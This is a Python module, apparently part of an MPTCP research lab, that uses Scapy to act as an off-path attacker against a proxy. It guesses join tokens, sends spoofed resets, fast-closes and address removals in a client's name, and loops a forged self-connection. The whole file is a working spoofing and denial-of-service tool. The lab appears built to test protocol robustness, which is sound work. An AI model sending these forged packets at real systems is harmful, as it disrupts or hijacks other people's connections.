"""Packets of an attacker off the path, who knows addresses, ports and even a token.

Run in the attacker's network namespace: `python -m mptcp_lab.adversary.forger KIND PROXY PORT ARGUMENT...` sends its
packets through Scapy. The kernel there must not answer for it: see `attack.prepare`.
"""

from __future__ import annotations

import random
import sys
import time
from typing import TYPE_CHECKING, Final

from scapy.config import conf
from scapy.layers.inet import IP, TCP
from scapy.sendrecv import send, sr1

if TYPE_CHECKING:
    from collections.abc import Sequence

# RFC 8684, section 3: the bodies of MPTCP options. ADD_ADDR has an invented HMAC, MP_FASTCLOSE an invented key.
SIGNALS: Final[dict[str, tuple[str, list[tuple[int, bytes]]]]] = {
    "fin": ("FA", []),
    "rst": ("R", []),
    "rst-with-reason": ("R", [(30, b"\x80\x03")]),
    "syn": ("S", [(30, b"\x01\x81")]),
    "backup": ("A", [(30, b"\x51")]),
    "regular": ("A", [(30, b"\x50")]),
    "remove-address-0": ("A", [(30, b"\x40\x00")]),
    "remove-addresses": ("A", [(30, bytes([0x40, *range(1, 9)]))]),
    "add-address": ("A", [(30, b"\x30\x09\x0a\x02\x00\x09" + bytes(8))]),
    "fail": ("A", [(30, b"\x60\x00" + bytes(8))]),
    "fast-close": ("A", [(30, b"\x70\x00anykey..")]),
}


def joins(proxy: str, port: int, tokens: list[int]) -> None:
    """For each token: a JOIN, answered with an invented HMAC if the proxy knows the token."""
    for number, token in enumerate(tokens):
        sport, seq = 20_000 + number, 1000 * number
        syn = bytes([0x10, 9]) + token.to_bytes(4) + b"nonc"
        answer = sr1(
            IP(dst=proxy) / TCP(sport=sport, dport=port, flags="S", seq=seq, options=[(30, syn)]),
            timeout=1,
            verbose=False,
        )
        if answer is not None and answer[TCP].flags == "SA":
            ack = answer[TCP].seq + 1
            proof = [(30, bytes([0x10, 0]) + random.randbytes(20))]  # noqa: S311
            third = IP(dst=proxy) / TCP(sport=sport, dport=port, flags="A", seq=seq + 1, ack=ack, options=proof)
            send(third, verbose=False)
            print("answered", flush=True)


def signals(proxy: str, port: int, client: str, client_port: int, name: str, per_second: float) -> None:
    """Segments in the name of a client, until it is ended; their sequence numbers are far outside the window."""
    flags, options = SIGNALS[name]
    forged = TCP(sport=client_port, dport=port, flags=flags, seq=12345, ack=54321, options=options)
    _send_for_ever([IP(src=client, dst=proxy) / forged], per_second)


def connection(proxy: str, port: int, per_second: float) -> None:
    """Send all segments of a handshake of the proxy with itself, and the SYN/ACK again, until the program is ended."""
    key = b"anykey.."
    syn, answer, ack = ((30, b"\x01\x81" + keys) for keys in (b"", key, key + key))
    segments = (
        TCP(sport=20_000, dport=port, flags="S", seq=100, options=[syn]),
        TCP(sport=port, dport=20_000, flags="SA", seq=900, ack=101, options=[answer]),
        TCP(sport=20_000, dport=port, flags="A", seq=101, ack=901, options=[ack]),
        TCP(sport=port, dport=20_000, flags="SA", seq=900, ack=101, options=[answer]),
    )
    _send_for_ever([IP(src=proxy, dst=proxy) / segment for segment in segments], per_second)


def _send_for_ever(packets: Sequence[IP], per_second: float) -> None:
    with conf.L3socket() as channel:
        print("sending", flush=True)
        while True:
            for packet in packets:
                channel.send(packet)
            time.sleep(1 / per_second)


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["joins", proxy, port, *tokens]:
            joins(proxy, int(port), [int(token, 16) for token in tokens])
        case ["signals", proxy, port, client, client_port, name, per_second]:
            signals(proxy, int(port), client, int(client_port), name, float(per_second))
        case ["connection", proxy, port, per_second]:
            connection(proxy, int(port), float(per_second))
